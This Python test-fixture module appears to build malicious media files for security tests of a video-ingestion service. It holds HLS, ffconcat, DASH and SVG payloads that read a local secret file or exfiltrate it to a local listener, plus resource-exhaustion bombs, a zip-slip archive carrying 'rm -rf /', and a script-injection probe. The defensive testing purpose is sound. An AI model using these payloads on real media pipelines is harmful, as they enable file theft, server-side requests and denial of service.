"""Files that mean harm, made for the occasion: each is named by what it tries. All are called like films when they are sent."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from msgspec import Struct

from tests.media import ffmpeg, tone, video

Maker = Callable[["Bait", bytes], bytes]
MAKERS: dict[str, Maker] = {}
SAFE = frozenset(
    {
        "avi with a playlist as subtitles",
        "clocks that stand still",
        "frames without a rate",
        "huge metadata",
        "many fragments",
        "page in front",
        "reference to a file",
    }
)
"""Those that are videos all the same: they are processed, and what is wrong with them has no effect."""


class Bait(Struct, frozen=True):
    """What must not be opened: a file with a secret in it, and an address where somebody listens."""

    secret: Path
    port: int

    @property
    def url(self) -> str:
        """The address."""
        return f"http://127.0.0.1:{self.port}/bait"


def film(folder: Path) -> bytes:
    """An innocent film to start from: its index is at its end, so that changing the index moves no data."""
    return video(folder / "innocent.mp4", sound=tone(1.0)).read_bytes()


def makes(name: str) -> Callable[[Maker], Maker]:
    """Note a maker under its name."""

    def note(make: Maker) -> Maker:
        MAKERS[name] = make
        return make

    return note


def box(kind: bytes, *content: bytes) -> bytes:
    """A box of ISO 14496-12."""
    data = b"".join(content)
    return struct.pack(">I4s", len(data) + 8, kind) + data


def chunk(kind: bytes, *content: bytes) -> bytes:
    """A chunk of RIFF."""
    data = b"".join(content)
    return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def playlist(*lines: str) -> bytes:
    """An HLS playlist."""
    return "\n".join(("#EXTM3U", "#EXT-X-TARGETDURATION:10", *lines, "#EXT-X-ENDLIST", "")).encode()


@makes("playlist of a file")
def _(bait: Bait, film: bytes) -> bytes:
    return playlist("#EXTINF:10,", f"file://{bait.secret}")


@makes("playlist of an address")
def _(bait: Bait, film: bytes) -> bytes:
    return playlist("#EXTINF:10,", bait.url)


@makes("playlist with an initialization section")
def _(bait: Bait, film: bytes) -> bytes:
    return playlist(f'#EXT-X-MAP:URI="file://{bait.secret}"', "#EXTINF:10,", bait.url)


@makes("playlist that sends a file to an address")
def _(bait: Bait, film: bytes) -> bytes:
    return playlist("#EXTINF:10,", f"concat:{bait.url}?|subfile,,start,0,end,64,,:{bait.secret}")


@makes("playlist with a key")
def _(bait: Bait, film: bytes) -> bytes:
    return playlist(f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}"', "#EXTINF:10,", f"crypto+file://{bait.secret}")


@makes("concat script of a file")
def _(bait: Bait, film: bytes) -> bytes:
    return f"ffconcat version 1.0\nfile '{bait.secret}'\n".encode()


@makes("concat script of an address")
def _(bait: Bait, film: bytes) -> bytes:
    return f"ffconcat version 1.0\nfile '{bait.url}'\n".encode()


@makes("DASH manifest")
def _(bait: Bait, film: bytes) -> bytes:
    period = f"<Period><AdaptationSet><Representation><BaseURL>{bait.url}</BaseURL></Representation></AdaptationSet></Period>"
    return f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">{period}</MPD>'.encode()


@makes("session description")
def _(bait: Bait, film: bytes) -> bytes:
    return f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {bait.port} RTP/AVP 96\n".encode()


@makes("drawing with an entity")
def _(bait: Bait, film: bytes) -> bytes:
    return f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{bait.secret}">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'.encode()


@makes("avi with a playlist as subtitles")
def _(bait: Bait, film: bytes) -> bytes:
    hidden = playlist("#EXTINF:10,", f"file://{bait.secret}")
    header = struct.pack("<4s4sIHHIIIIIIIi8x", b"txts", b"\0" * 4, 0, 0, 0, 0, 1, 1, 0, 1, len(hidden), 0, 0)
    stream = chunk(b"LIST", b"strl", chunk(b"strh", header), chunk(b"strf", b""))
    subtitles = b"GAB2\0" + struct.pack("<HIH", 2, 2, 0) + b"\0\0" + struct.pack("<HI", 4, len(hidden)) + hidden
    return avi(streams=(stream,), movie=chunk(b"00tx", subtitles))


@makes("reference movie")
def _(bait: Bait, film: bytes) -> bytes:
    address = bait.url.encode() + b"\0"
    reference = box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(address)), address)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


@makes("reference to a file")
def _(bait: Bait, film: bytes) -> bytes:
    """The index says that the pictures lie in another file."""
    old = box(b"dref", struct.pack(">II", 0, 1), box(b"url ", b"\0\0\0\1"))
    new = box(b"dref", struct.pack(">II", 0, 1), box(b"url ", b"\0\0\0\0", f"file://{bait.secret}\0".encode()))
    return _grown(film, (b"moov", b"trak", b"mdia", b"minf", b"dinf"), old, new)


def _grown(film: bytes, path: tuple[bytes, ...], old: bytes, new: bytes) -> bytes:
    """Replace a box deep inside, and make the boxes around it larger."""
    at = film.index(old)
    data = bytearray(film[:at] + new + film[at + len(old) :])
    for kind in path:
        # The last box of this kind that begins before the place is the one around it.
        start = film.rindex(kind, 0, at) - 4
        (size,) = struct.unpack_from(">I", data, start)
        struct.pack_into(">I", data, start, size + len(new) - len(old))
    return bytes(data)


def avi(
    *, streams: tuple[bytes, ...] = (), movie: bytes = b"", size: tuple[int, int] = (64, 64), rate: tuple[int, int] = (1, 25),
    frames: int = 1,
) -> bytes:  # fmt: skip
    """A small AVI of raw pictures, whatever it says of them."""
    width, height = size
    kind = struct.pack("<4s4sIHHIIIIIIIi4H", b"vids", b"DIB ", 0, 0, 0, 0, *rate, 0, frames, 12288, 0, 0, 0, 0, 64, 64)
    picture = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 12288, 0, 0, 0, 0)
    own = chunk(b"LIST", b"strl", chunk(b"strh", kind), chunk(b"strf", picture))
    main = struct.pack("<IIIIIIIIII16x", 40000, 0, 0, 0, frames, 0, 1 + len(streams), 0, width, height)
    head = chunk(b"LIST", b"hdrl", chunk(b"avih", main), own, *streams)
    data = chunk(b"LIST", b"movi", chunk(b"00db", bytes(12288)) * 2, movie)
    return chunk(b"RIFF", b"AVI ", head, data)


@makes("picture of four thousand megapixels")
def _(bait: Bait, film: bytes) -> bytes:
    return avi(size=(65000, 65000))


@makes("a million frames a second")
def _(bait: Bait, film: bytes) -> bytes:
    return avi(rate=(1, 1_000_000), frames=100_000_000)


@makes("frames without a rate")
def _(bait: Bait, film: bytes) -> bytes:
    return avi(rate=(0, 0), frames=0)


@makes("a hundred years long")
def _(bait: Bait, film: bytes) -> bytes:
    return avi(rate=(1_000_000, 1), frames=4_000)


def _patched(film: bytes, kind: bytes, offset: int, value: bytes) -> bytes:
    """All boxes of a kind, changed at a place of their content."""
    data, at = bytearray(film), film.find(kind, film.index(b"moov"))
    while at >= 0:
        data[at + 4 + offset : at + 4 + offset + len(value)] = value
        at = film.find(kind, at + 4)
    return bytes(data)


@makes("clocks that stand still")
def _(bait: Bait, film: bytes) -> bytes:
    return _patched(_patched(film, b"mvhd", 12, bytes(4)), b"mdhd", 12, bytes(4))


@makes("samples without end")
def _(bait: Bait, film: bytes) -> bytes:
    return _patched(film, b"stts", 4, b"\x00\x00\x00\x01\xff\xff\xff\xff\x00\x00\x00\x01")


@makes("tables larger than the file")
def _(bait: Bait, film: bytes) -> bytes:
    for kind in (b"stco", b"stsz", b"stsc"):
        film = _patched(film, kind, 8 if kind == b"stsz" else 4, b"\x0f\xff\xff\xff")
    return film


@makes("boxes in boxes in boxes")
def _(bait: Bait, film: bytes) -> bytes:
    deep = b""
    for _ in range(3000):
        deep = box(b"moov", deep)
    return box(b"ftyp", b"isom\0\0\0\0isom") + deep


@makes("box of nine exabytes")
def _(bait: Bait, film: bytes) -> bytes:
    return film + struct.pack(">I4sQ", 1, b"mdat", 2**63 - 1)


@makes("millions of empty boxes")
def _(bait: Bait, film: bytes) -> bytes:
    return box(b"ftyp", b"isom\0\0\0\0isom") + box(b"free") * 1_500_000


@makes("hundred sound tracks")
def _(bait: Bait, film: bytes) -> bytes:
    track = film[film.rindex(b"trak") - 4 :]
    track = track[: struct.unpack_from(">I", track)[0]]
    start = film.index(b"moov") - 4
    (size,) = struct.unpack_from(">I", film, start)
    moov = film[start + 8 : start + size] + track * 100
    return film[:start] + box(b"moov", moov)


@makes("huge metadata")
def _(bait: Bait, film: bytes) -> bytes:
    start = film.index(b"moov") - 4
    (size,) = struct.unpack_from(">I", film, start)
    text = b"A" * 8_000_000
    name = box(b"udta", box(b"\xa9nam", struct.pack(">HH", 60000, 0), text))
    return film[:start] + box(b"moov", film[start + 8 : start + size], name) + film[start + size :]


@makes("segment that never ends")
def _(bait: Bait, film: bytes) -> bytes:
    head = b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm"
    return head + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x1f\x43\xb6\x75\xff" * 20_000


@makes("element larger than memory")
def _(bait: Bait, film: bytes) -> bytes:
    return b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm" + b"\x18\x53\x80\x67\x10\xff\xff\xff\x0f\xff\xff\xf0" + bytes(4000)


@makes("archive behind")
def _(bait: Bait, film: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../evil.sh", "rm -rf /")
    return film + packed.getvalue()


@makes("page in front")
def _(bait: Bait, film: bytes) -> bytes:
    page, (start,) = box(b"free", b"<script>alert(1)</script>"), struct.unpack_from(">I", film)
    return film[:start] + page + _moved(film, len(page))[start:]


def _moved(film: bytes, distance: int) -> bytes:
    """A film whose index says that its data lies further behind."""
    data, at = bytearray(film), film.find(b"stco")
    while at >= 0:
        (count,) = struct.unpack_from(">I", film, at + 8)
        for place in range(at + 12, at + 12 + 4 * count, 4):
            struct.pack_into(">I", data, place, struct.unpack_from(">I", film, place)[0] + distance)
        at = film.find(b"stco", at + 4)
    return bytes(data)


@makes("picture")
def _(bait: Bait, film: bytes) -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


@makes("noise")
def _(bait: Bait, film: bytes) -> bytes:
    return bytes((number * 7919) % 251 for number in range(200_000))


@makes("many fragments")
def _(bait: Bait, film: bytes) -> bytes:
    folder = bait.secret.parent
    (folder / "whole.mp4").write_bytes(film)
    ffmpeg(
        "-i",
        str(folder / "whole.mp4"),
        "-c",
        "copy",
        "-movflags",
        "frag_every_frame+empty_moov",
        str(folder / "cut.mp4"),
    )
    return (folder / "cut.mp4").read_bytes()
